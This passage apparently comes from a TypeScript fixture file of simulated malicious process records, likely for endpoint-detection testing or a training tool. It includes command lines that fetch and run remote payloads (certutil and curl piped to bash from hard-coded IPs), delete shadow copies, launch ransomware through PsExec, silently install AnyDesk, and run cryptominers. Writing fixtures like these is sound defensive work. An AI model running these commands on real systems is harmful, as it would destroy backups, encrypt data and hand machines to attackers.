      'cmd.exe /c certutil.exe -urlcache -split -f http://185.220.101.47/a.png %TEMP%\\a.exe && %TEMP%\\a.exe',
    parent: 'WINWORD.EXE',
    parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
    publisher: 'Microsoft Corporation',
  },
  vssadmin: {
    image: 'vssadmin.exe',
    path: 'C:\\Windows\\System32',
    commandLine: 'vssadmin.exe delete shadows /all /quiet',
    parent: 'cmd.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: 'Microsoft Corporation',
  },
  lockbitExe: {
    image: 'LB3.exe',
    path: 'C:\\Windows\\SysWOW64\\Tasks',
    commandLine: 'LB3.exe -pass 2b8f3c1a -path C:\\Shares',
    parent: 'PsExeSvc.exe',
    parentPath: 'C:\\Windows',
    publisher: null,
  },
  anydesk: {
    image: 'AnyDesk.exe',
    path: 'C:\\Users\\Public',
    commandLine: 'AnyDesk.exe --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
    parent: 'powershell.exe',
    parentPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
    publisher: 'AnyDesk Software GmbH',
  },
  xmrig: {
    image: 'xmrig.exe',
    path: 'C:\\ProgramData\\svc',
    commandLine: 'xmrig.exe -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ --tls -B',
    parent: 'services.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: null,
  },
  xmrigLinux: {
    image: 'kdevtmpfsi',
    path: '/tmp',
    commandLine: '/tmp/kdevtmpfsi -o pool.minexmr.com:443 --donate-level 0',
    parent: 'kinsing',
    parentPath: '/tmp',
    publisher: null,
  },
  curlBash: {
    image: 'bash',
    path: '/usr/bin',
    commandLine: 'bash -c "curl -fsSL http://91.92.240.12/s.sh | bash"',
    parent: 'sshd',
    parentPath: '/usr/sbin',
    publisher: null,
  },
  psexec: {
    image: 'PsExec64.exe',
    path: 'C:\\Windows\\Temp',
    commandLine: 'PsExec64.exe \\\\SRV-FILE-01 -s -d cmd.exe /c C:\\Windows\\Temp\\LB3.exe',
    parent: 'cmd.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: 'Sysinternals - www.sysinternals.com',
  },
} satisfies Record<string, ProcessSpec>;
